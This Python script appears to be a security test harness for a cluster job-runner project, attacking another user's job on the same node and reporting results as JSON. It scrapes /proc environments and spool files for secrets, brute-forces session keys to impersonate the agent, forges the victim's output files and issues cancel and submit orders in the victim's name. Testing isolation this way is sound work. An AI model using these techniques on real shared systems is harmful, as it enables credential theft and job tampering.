"""Attack another job from a program on a node, and print the findings as JSON.

attacker.py AGENT_DIRECTORY LOCALD_DIRECTORY TOKEN PIDS

``TOKEN`` is the component token of the victim, or a prefix of it.
"""

import json
import os
import re
import socket
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[2]))

from koalapy.runner.session import TAG_LENGTH, Line, Session, derive_key

EXIT = {"t": "exit", "code": 0, "error": "", "infrastructure": False, "stopped": False}
RESULT = {"code": 0, "error": "", "infrastructure": False, "stopped": False, "host": "127.0.0.1", "name": "x"}
HEX = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32,64}(?![0-9a-f])")


def read_all_files(directory: str) -> list[bytes]:
    """Return the content of all readable files of the spool, environments and command lines."""
    contents = []
    paths = [path for path in Path(directory).rglob("*") if path.is_file()]
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        paths += [Path(f"/proc/{pid}/environ"), Path(f"/proc/{pid}/cmdline")]
    for path in paths:
        try:
            contents.append(path.read_bytes())
        except OSError:
            continue
    return contents


def read_process_files(pid: str) -> list[str]:
    """Return the names of the files of a process that expose its memory and could be opened."""
    opened = []
    for name in ("mem", "environ", "maps"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                file.read(0 if name == "mem" else -1)
        except OSError:
            continue
        opened.append(name)
    return opened


def ask_locald(directory: str, request: dict[str, object]) -> dict[str, object]:
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(str(Path(directory, "locald.sock")))
        line.sendall(json.dumps(request).encode() + b"\n")
        answer: dict[str, object] = json.loads(line.makefile().readline())
        return answer


def impersonate(address: dict[str, object], name: str, secret: bytes) -> list[str]:
    """Return the kinds of messages that the agent sends to a runner with this secret."""
    kinds = []
    with socket.create_connection((str(address["host"]), int(str(address["port"]))), 10) as line:
        answers = line.makefile("rb")
        line.sendall(Line(json.dumps({"t": "hello", "component": name, "node": 0, "nonce": "0" * 64}).encode()).ended)
        challenge = answers.readline().rstrip(b"\n")
        if not challenge:
            return []
        session = Session(secret, name, 0, ("0" * 64, json.loads(challenge[TAG_LENGTH:])["nonce"]), is_agent=False)
        here = {"t": "here", "life": "x", "host": "127.0.0.1", "name": "x", "phase": "running", "start": 0}
        try:
            for message in (here, {"t": "out", "offset": 0, "data": "Zm9yZ2VkCg=="}, EXIT):
                line.sendall(session.seal(Line(json.dumps(message).encode())))
            for answer in answers:
                kinds.append(json.loads(answer[TAG_LENGTH:])["t"])
        except OSError:
            pass
    return kinds


def main(agent: str, locald: str, token: str, pids: str) -> dict[str, object]:
    [folder] = Path(agent).glob(f"*/{token}*")
    name = f"koala-{folder.parent.name}-{folder.name}"
    everything = b"\n".join(read_all_files(agent))
    address = json.loads(Path(agent, "agent.json").read_text())
    guesses = sorted({bytes.fromhex(digits.decode()) for digits in HEX.findall(everything) if len(digits) % 2 == 0})[
        :100
    ]
    guesses += [derive_key(guess, "runner", name, "0") for guess in guesses]
    answers = [kind for guess in (b"", *guesses) for kind in impersonate(address, name, guess)]
    for file, content in (("result.0.json", json.dumps(RESULT)), ("output.0.0", "forged\n")):
        (folder / file).write_text(content)
    orders: list[dict[str, object]] = [
        {"op": "keep", "key": "00"},
        {"op": "cancel", "job": "1", "name": name},
        {"op": "submit", "name": name, "nodes": 1, "argv": ["true"]},
        {"op": "reserve", "name": name, "nodes": 1, "begins": 0, "ends": 1, "users": ["grid"]},
        {"op": "unreserve", "name": name},
    ]
    return {
        "secrets": b"KOALA_RUNNER_SECRET=" in everything or bool(list(Path(agent).rglob("secret.*"))),
        "heard": answers,
        "guesses": len(guesses),
        "memory": {pid: read_process_files(pid) for pid in pids.split(",") if pid},
        "orders": [sorted(ask_locald(locald, order)) for order in orders],
    }


if __name__ == "__main__":
    print(json.dumps(main(*sys.argv[1:])))
